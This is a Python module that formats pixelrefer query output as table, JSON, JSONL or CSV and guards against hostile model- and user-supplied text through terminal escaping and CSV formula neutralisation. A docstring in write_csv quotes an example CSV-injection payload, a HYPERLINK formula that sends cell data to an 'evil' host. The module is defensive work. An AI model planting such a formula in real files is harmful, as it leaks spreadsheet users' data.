"""Output formats of `pixelrefer query`: table, json, jsonl, csv.

Every writer streams: it writes each record batch as it arrives and never collects the result, so
a query over a large index starts printing at once and its memory stays bounded. `json` is one
JSON document (an array of row objects; `--video` one object) so that `json.load` and `jq '.[0]'`
work; `jsonl` is one object per line for tools that read rows one at a time.

Captions, answers, labels and URIs come from models and users, so `table` and `csv` treat them as
hostile: `table` shows control characters (ANSI escapes, OSC sequences, C1 controls, bidi
overrides) as escapes like ``\\x1b`` instead of letting them drive the terminal, and `csv` prefixes
a text cell that a spreadsheet would run as a formula with ``'`` (OWASP's CSV-injection advice).
`json` and `jsonl` carry the exact values: control characters, C1 controls, bidi overrides and
line separators are written as ``\\uXXXX`` escapes, which decode to the very same strings.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import decimal
import json
import math
from typing import Any, Callable, Iterator, Sequence, TextIO

import pyarrow as pa

from jobs.query_errors import QueryError, duckdb_errors
from jobs.query_video import VideoResult

FORMATS = ("table", "json", "jsonl", "csv")
TABLE_CELL_WIDTH = 60

Rows = pa.RecordBatchReader | pa.Table


def to_jsonable(value: Any) -> Any:
    """Plain JSON values: timestamps as ISO 8601, bytes as base64, NaN/inf as null."""
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, (dt.datetime, dt.date, dt.time)):
        return value.isoformat()
    if isinstance(value, decimal.Decimal):
        return float(value)
    if isinstance(value, (bytes, bytearray)):
        return base64.b64encode(value).decode("ascii")
    if isinstance(value, dt.timedelta):
        return value.total_seconds()
    if isinstance(value, pa.MonthDayNano):  # DuckDB's INTERVAL, e.g. `ended_at - started_at`
        interval = _interval(value)
        return interval.total_seconds() if isinstance(interval, dt.timedelta) else interval
    if isinstance(value, dict):
        return {str(k): to_jsonable(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        # pyarrow gives maps as lists of (key, value) pairs; keep them as lists.
        return [to_jsonable(v) for v in value]
    return value


def _interval(value: "pa.MonthDayNano") -> dt.timedelta | str:
    """A timedelta when the interval has no months (their length varies), else ISO 8601 text."""
    delta = dt.timedelta(days=value.days, microseconds=value.nanoseconds / 1000)
    if not value.months:
        return delta
    return f"P{value.months}M{value.days}DT{value.nanoseconds / 1e9:g}S"


# Terminal controls shown as escapes: C0 (ESC, BEL, CR, backspace ...), DEL, C1 (CSI U+009B),
# bidi overrides and isolates (text that displays in another order than it reads), line separators.
_BIDI = (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x2028, 0x2029)
_VISIBLE = {c: f"\\x{c:02x}" for c in (*range(0x20), *range(0x7F, 0xA0))} | {c: f"\\u{c:04x}" for c in _BIDI}
_VISIBLE |= {ord("\n"): " ", ord("\t"): " "}  # a multi-line caption stays readable on one row
# First characters that make a spreadsheet evaluate a cell (OWASP), with their full-width forms.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def terminal_safe(text: str) -> str:
    """`text` with every character that could drive a terminal written as a visible escape."""
    return text.translate(_VISIBLE)


def spreadsheet_safe(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, prefixed with ``'``; other values unchanged.

    Only strings: a number from a numeric column (a negative float) must stay a number.
    """
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


# Characters that json.dumps(ensure_ascii=False) leaves raw but a terminal or a line splitter acts on:
# as \uXXXX escapes they are the same JSON value (they only ever occur inside strings).
_JSON_ESCAPES = {c: f"\\u{c:04x}" for c in (*range(0x7F, 0xA0), *_BIDI)}


def _json_text(value: Any, indent: int | None = None) -> str:
    return json.dumps(to_jsonable(value), ensure_ascii=False, indent=indent).translate(_JSON_ESCAPES)


def _cell_text(value: Any) -> str:
    return terminal_safe(_plain_text(value))


def _plain_text(value: Any) -> str:
    if value is None:
        return "NULL"
    if isinstance(value, float):
        return f"{value:.6g}"
    if isinstance(value, pa.MonthDayNano):
        return str(_interval(value))
    if isinstance(value, (dict, list, tuple)):
        return _json_text(value)
    if isinstance(value, dt.datetime):
        return value.isoformat(sep=" ")
    return str(value)


def _clip(text: str, width: int) -> str:
    return text if len(text) <= width else text[: width - 1] + "…"


def _batches(reader: Rows) -> Iterator[pa.RecordBatch]:
    """Batches as they arrive; an error met mid-stream (a file unreadable) becomes a QueryError."""
    with duckdb_errors():
        if isinstance(reader, pa.Table):
            yield from reader.to_batches()
            return
        try:
            yield from reader
        except pa.ArrowException as exc:  # DuckDB errors can surface through the Arrow stream
            raise QueryError(f"query failed while reading: {exc}") from exc


def _rows(reader: Rows) -> Iterator[dict[str, Any]]:
    for batch in _batches(reader):
        yield from batch.to_pylist()


def write_table(reader: Rows, out: TextIO) -> int:
    """Aligned text columns. Widths come from the first batch so output can start immediately."""
    schema = reader.schema
    numeric = [pa.types.is_integer(f.type) or pa.types.is_floating(f.type) for f in schema]
    names = [terminal_safe(f.name) for f in schema]
    widths: list[int] | None = None
    count = 0
    for batch in _batches(reader):
        rows = [[_clip(_cell_text(v), TABLE_CELL_WIDTH) for v in row.values()] for row in batch.to_pylist()]
        if widths is None:
            widths = [max([len(n)] + [len(r[i]) for r in rows]) for i, n in enumerate(names)]
            _write_row(names, widths, [False] * len(widths), out)
            out.write("  ".join("-" * w for w in widths).rstrip() + "\n")
        for row in rows:
            _write_row(row, widths, numeric, out)
        count += len(rows)
    if widths is None:  # no rows at all: still show the header
        widths = [len(n) for n in names]
        _write_row(names, widths, [False] * len(widths), out)
    out.write(f"({count} row{'s' if count != 1 else ''})\n")
    return count


def _write_row(cells: Sequence[str], widths: Sequence[int], right: Sequence[bool], out: TextIO) -> None:
    parts = [c.rjust(w) if r else c.ljust(w) for c, w, r in zip(cells, widths, right)]
    out.write("  ".join(parts).rstrip() + "\n")


def write_json(reader: Rows, out: TextIO) -> int:
    """One JSON array of row objects, one row a line, streamed.

    The opening bracket waits for the first row, so a query that fails before any row leaves
    stdout empty rather than holding half a document.
    """
    count = 0
    for row in _rows(reader):
        out.write(("[\n" if count == 0 else ",\n") + _json_text(row))
        count += 1
    out.write("\n]\n" if count else "[]\n")
    return count


def write_jsonl(reader: Rows, out: TextIO) -> int:
    """JSON Lines: one object per row, written as each batch arrives."""
    count = 0
    for row in _rows(reader):
        out.write(_json_text(row) + "\n")
        count += 1
    return count


def write_csv(reader: Rows, out: TextIO) -> int:
    """CSV with a header; nested values (lists, structs) are written as JSON text in their cell.

    Text cells that start like a formula get a leading ``'`` (`spreadsheet_safe`): a caption such as
    ``=HYPERLINK("http://evil/?"&A1)`` must not run when the file is opened in a spreadsheet.
    """
    writer = csv.writer(out, lineterminator="\n")
    # With a "\n" terminator, csv quotes "\n" but not a lone "\r", which readers (and spreadsheets)
    # take as a line break: a row holding one is written with every text cell quoted.
    quoting = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    count = 0
    for cells in _csv_rows(reader):
        (quoting if any(isinstance(c, str) and "\r" in c for c in cells) else writer).writerow(cells)
        count += 1
    return count - 1


def _csv_rows(reader: Rows) -> Iterator[list[Any]]:
    """The header, then each row's cells, every text cell made `spreadsheet_safe`."""
    yield [spreadsheet_safe(n) for n in reader.schema.names]
    for row in _rows(reader):
        yield [spreadsheet_safe(_csv_cell(v)) for v in row.values()]


def _csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, pa.MonthDayNano):
        return to_jsonable(value)
    if isinstance(value, (dict, list, tuple)):
        return _json_text(value)
    if isinstance(value, dt.datetime):
        return value.isoformat()
    return value


WRITERS: dict[str, Callable[[Rows, TextIO], int]] = {
    "table": write_table,
    "json": write_json,
    "jsonl": write_jsonl,
    "csv": write_csv,
}


def write_video(result: VideoResult, fmt: str, out: TextIO) -> None:
    """`--video` output: sections for people (table), one document (json, jsonl), one flat table (csv)."""
    if fmt == "json":
        out.write(_json_text(result.to_dict(), indent=2) + "\n")
        return
    if fmt == "jsonl":
        out.write(_json_text(result.to_dict()) + "\n")
        return
    if fmt == "csv":
        write_csv(result.timeline(), out)
        return
    doc = result.to_dict()
    video = doc["video"]
    out.write(terminal_safe(f"video {video['video_id']}  ({video['uri']})") + "\n")
    keys = ("status", "error", "run_id", "model", "tracker", "indexed_at", "duration_s", "width", "height",
            "sampled_fps", "num_sampled", "clips")  # fmt: skip
    for key in keys:
        if video.get(key) is not None:
            out.write(f"  {key:<11} {_cell_text(video[key])}\n")
    if len(doc["runs"]) > 1:
        others = ", ".join(f"{r['run_id']} ({r['status']}, {r['model']})" for r in doc["runs"])
        out.write(f"  runs        {terminal_safe(others)}\n")
    objects = [{**o, "clips": _ranges(o["clips"]), "spans": "; ".join(f"{a:g}-{b:g}" for a, b in o["spans"])}
               for o in doc["objects"]]  # fmt: skip
    clips = [{**c, "object_ids": _ranges(c["object_ids"])} for c in doc["clips"]]
    sections = (
        ("clips", clips, ["clip_index", "ts_start", "ts_end", "boundary", "status", "num_sampled", "object_ids",
                          "error"]),
        ("objects", objects, ["object_id", "source", "label", "first_ts", "last_ts", "num_frames", "clips",
                              "spans", *(["merged_from"] if any(o.get("merged_from") for o in objects) else [])]),
        ("timeline", _timeline_rows(doc), ["clip", "ts_start", "ts_end", "object_ids", "text"]),
    )  # fmt: skip
    for title, rows, columns in sections:
        out.write(f"\n{title}:\n")
        table = pa.Table.from_pylist([{c: r.get(c) for c in columns} for r in rows]) if rows else None
        write_table(table if table is not None else pa.table({c: [] for c in columns}), out)


def _ranges(values: Sequence[int]) -> str:
    """`[0, 1, 2, 5]` as "0-2, 5": an object seen in 200 clips still fits a table cell."""
    parts: list[list[int]] = []
    for v in sorted(values):
        if parts and parts[-1][1] == v - 1:
            parts[-1][1] = v
        else:
            parts.append([v, v])
    return ", ".join(str(a) if a == b else f"{a}-{b}" for a, b in parts)


def _timeline_rows(doc: dict[str, Any]) -> list[dict[str, Any]]:
    """Captions and answers clip by clip, then the whole-track captions (`clip` "track")."""
    rows: list[dict[str, Any]] = []
    for clip in doc["clips"]:
        for cap in clip["captions"]:
            rows.append({"clip": str(clip["clip_index"]), "ts_start": cap["ts_start"], "ts_end": cap["ts_end"],
                         "object_ids": str(cap["object_id"]), "text": cap["caption"]})  # fmt: skip
        for qa in clip["answers"]:
            rows.append({"clip": str(clip["clip_index"]), "ts_start": clip["ts_start"], "ts_end": clip["ts_end"],
                         "object_ids": " ".join(str(i) for i in qa["object_ids"] or []),
                         "text": f"Q: {qa['question']} A: {qa['answer']}"})  # fmt: skip
    for cap in doc["captions"]:
        if cap["clip_index"] is None:
            rows.append({"clip": "track", "ts_start": cap["ts_start"], "ts_end": cap["ts_end"],
                         "object_ids": str(cap["object_id"]), "text": cap["caption"]})  # fmt: skip
    for qa in doc["qa"]:
        if qa["clip_index"] is None:
            rows.append({"clip": "video", "ts_start": qa["ts_start"], "ts_end": qa["ts_end"],
                         "object_ids": " ".join(str(i) for i in qa["object_ids"] or []),
                         "text": f"Q: {qa['question']} A: {qa['answer']}"})  # fmt: skip
    return rows
